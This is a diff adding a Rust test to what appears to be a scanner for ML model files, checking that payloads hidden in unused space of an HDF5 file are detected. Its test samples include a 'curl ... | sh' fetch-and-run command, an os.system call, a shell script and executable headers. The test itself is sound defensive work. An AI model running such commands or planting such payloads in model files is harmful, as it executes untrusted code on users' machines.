@@ -210,6 +210,63 @@ fn gguf() {
     assert_seen("gguf", &under("model.gguf", samples));
 }
 
+/// Space of an HDF5 file that nothing refers to, as the library leaves it, is no place to hide in: what a loader that knows the place
+/// could run is found, wherever it begins there.
+#[test]
+fn hdf5_with_a_payload_in_a_hole() {
+    let folder =
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../weighhouse-formats/tests/fixtures/hdf5");
+    let bytes = std::fs::read(folder.join("holes-deleted.h5")).expect("a fixture");
+    let hole = largest_hole(&bytes);
+    let bad = payload();
+    let archive = Archive::of([Member::stored("data.pkl", &bad)]).build();
+    let elf = [b"\x7fELF\x02\x01\x01".as_slice(), &[0; 9], b"\x02\0\x3e\0\x01\0\0\0", &[0; 40]].concat();
+    let mut dos = [b"MZ".as_slice(), &[0x90; 0x3a], b"\x40\0\0\0PE\0\0\x64\x86"].concat();
+    dos.extend([0; 40]);
+    let innocent = b"\x80\x02ccollections\nOrderedDict\n)R.".as_slice();
+    let payloads: Vec<(&str, Vec<u8>)> = vec![
+        ("a pickle", bad.clone()),
+        ("a pickle behind an innocent one", [innocent, b"\xff\xff", &bad].concat()),
+        ("a program of Linux", elf),
+        ("a program of Windows", dos),
+        (
+            "a program of macOS",
+            [b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0".as_slice(), &[0; 16]].concat(),
+        ),
+        ("a module of WebAssembly", b"\0asm\x01\0\0\0".to_vec()),
+        ("an archive", archive),
+        ("a packed pickle, gzip", compress::gzip(&bad)),
+        ("a packed pickle, bzip2", compress::bzip2(&bad)),
+        ("a packed pickle, xz", compress::xz(&bad)),
+        ("a packed pickle, zstd", compress::zstd(&bad)),
+        ("a script of the shell", b"#!/bin/sh\nid > /tmp/x\n\0".to_vec()),
+        ("a script of Python", b"#!/usr/bin/env python3\nprint(1)\n\0".to_vec()),
+        ("a command", b"\0curl -s https://example.org/x | sh\0".to_vec()),
+        ("code", b"\0import os; os.system('id')\0".to_vec()),
+    ];
+    let mut samples = Vec::new();
+    for (what, payload) in payloads {
+        for offset in [0, 1, 11, 300] {
+            let mut bytes = bytes.clone();
+            let at = hole.0 + offset;
+            assert!(at + payload.len() < hole.1, "{what} does not fit");
+            bytes[at..at + payload.len()].copy_from_slice(&payload);
+            samples.push(Sample::new(format!("{what} at {offset} of a hole"), "model.h5", bytes));
+        }
+    }
+    assert_seen("holes of HDF5", &samples);
+}
+
+fn largest_hole(bytes: &[u8]) -> (usize, usize) {
+    let source = weighhouse_formats::source::Memory::shared(bytes.to_vec());
+    let budget = weighhouse_formats::bounded::Budget::default();
+    let node = weighhouse_formats::inspect::inspect("model.h5", &source, &budget);
+    let hole =
+        node.unexplained.iter().map(|part| part.region).max_by_key(|region| region.len()).expect("a hole");
+    let place = |at: u64| usize::try_from(at).expect("a small file");
+    (place(hole.start), place(hole.end))
+}
+
 /// Files that h5py and `PyTables` wrote: other files named by links and data sets, pickles and models of saved code in every place
 /// of a file.
 #[test]
